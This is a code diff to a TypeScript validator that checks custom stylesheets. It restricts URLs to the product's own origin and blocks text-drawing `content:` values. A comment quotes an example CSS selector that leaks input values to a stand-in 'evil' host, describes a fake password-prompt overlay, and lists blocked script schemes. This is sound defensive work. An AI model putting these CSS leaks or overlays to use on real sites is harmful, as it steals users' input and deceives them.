@@ -6,8 +6,13 @@
  * - no `</style` (it would end an inline <style> element if the CSS were ever inlined into HTML);
  * - no `@import` (a browser ignores it after other rules anyway, and it would pull in foreign CSS);
  * - no `javascript:`, `vbscript:`, `expression(` or `-moz-binding` anywhere, strings included;
- * - every URL, in `url()`, `src()` or `image-set()`, is https:// or relative (no other scheme, no
- *   protocol-relative `//host`).
+ * - every URL, in `url()`, `src()` or `image-set()`, stays on the product's own origin: a relative
+ *   path (no scheme, no protocol-relative `//host`). The one absolute URL allowed is the instance's own
+ *   logo. A stylesheet may otherwise load nothing from elsewhere, because CSS can read attribute values
+ *   (`input[value^="a"] { background: url(https://evil/?a) }`) and leak them, one request per guess;
+ * - `content:` (text drawn by the stylesheet) only as `none`, `normal`, `""`, counters or quotes, so
+ *   CSS cannot put words on screen that look like the product's or another user's (a fake "your
+ *   session expired, write your password to…" note).
  *
  * The checks run on what a browser sees: comments removed, CSS escapes (`\6a`, `\:`) decoded, and
  * tabs and newlines dropped from URLs and schemes as URL parsers do. Erring on the strict side is
@@ -21,6 +26,7 @@ export const CssRule = {
   Import: 'VALIDATION.CUSTOM_CSS.IMPORT',
   Script: 'VALIDATION.CUSTOM_CSS.SCRIPT',
   UnsafeUrl: 'VALIDATION.CUSTOM_CSS.UNSAFE_URL',
+  Content: 'VALIDATION.CUSTOM_CSS.CONTENT',
 } as const;
 
 const URL_FUNCTIONS = new Set(['url', 'src', 'image-set', '-webkit-image-set']);
@@ -122,15 +128,34 @@ export function scanCss(css: string): { text: string; urls: string[] } {
   return { text, urls };
 }
 
-/** https:// or relative; a URL parser drops leading spaces and controls, tabs and newlines, and reads \ as /. */
-export function isSafeCssUrl(url: string): boolean {
-  const cleaned = url.replace(/^[\u0000-\u0020]+/, '').replace(/[\t\n\r]/g, '').replace(/\\/g, '/');
-  if (/^https:\/\//i.test(cleaned)) return true;
+const cleanUrl = (url: string) => url.replace(/^[\u0000-\u0020]+/, '').replace(/[\u0000-\u0020]+$/, '').replace(/[\t\n\r]/g, '').replace(/\\/g, '/');
+
+/**
+ * A URL on the product's own origin: relative, with no scheme and no `//host` (a URL parser drops leading
+ * spaces and controls, tabs and newlines, and reads \ as /); or exactly one of the `allowed` absolute URLs.
+ */
+export function isSafeCssUrl(url: string, allowed: readonly string[] = []): boolean {
+  const cleaned = cleanUrl(url);
+  if (allowed.some((a) => a && cleanUrl(a) === cleaned)) return true;
   return !/^[a-z][a-z0-9+.-]*:/i.test(cleaned) && !cleaned.startsWith('//');
 }
 
+// What `content:` may be: nothing that writes words. Strings are "…" in the scanned text.
+const CONTENT_DECLARATION = /(?:^|[{;\s])content\s*:([^;}]*)/g;
+const HARMLESS_CONTENT = /^(?:\s|none|normal|""|counters?\([^()"]*\)|(?:no-)?(?:open|close)-quote|!important)*$/;
+
+function writesText(seen: string): boolean {
+  return [...seen.matchAll(CONTENT_DECLARATION)].some((m) => !HARMLESS_CONTENT.test(m[1]));
+}
+
+/** What a custom stylesheet is checked against beyond itself. */
+export interface CustomCssContext {
+  /** the instance's logo URL: the one absolute URL the CSS may use */
+  logoUrl?: string | null;
+}
+
 /** The broken rules of a custom stylesheet, as translation keys; empty when it may be stored. */
-export function customCssProblems(css: string): string[] {
+export function customCssProblems(css: string, context: CustomCssContext = {}): string[] {
   if (Buffer.byteLength(css, 'utf8') > CUSTOM_CSS_MAX_BYTES) return [CssRule.TooLong];
   const { text, urls } = scanCss(css);
   const seen = text.toLowerCase();
@@ -139,6 +164,7 @@ export function customCssProblems(css: string): string[] {
   if (css.toLowerCase().includes('</style') || seen.includes('</style')) problems.add(CssRule.StyleTag);
   if (seen.includes('@import')) problems.add(CssRule.Import);
   if (SCRIPT.test(squeezed)) problems.add(CssRule.Script);
-  if (urls.some((url) => !isSafeCssUrl(url))) problems.add(CssRule.UnsafeUrl);
+  if (urls.some((url) => !isSafeCssUrl(url, context.logoUrl ? [context.logoUrl] : []))) problems.add(CssRule.UnsafeUrl);
+  if (writesText(seen)) problems.add(CssRule.Content);
   return [...problems];
 }
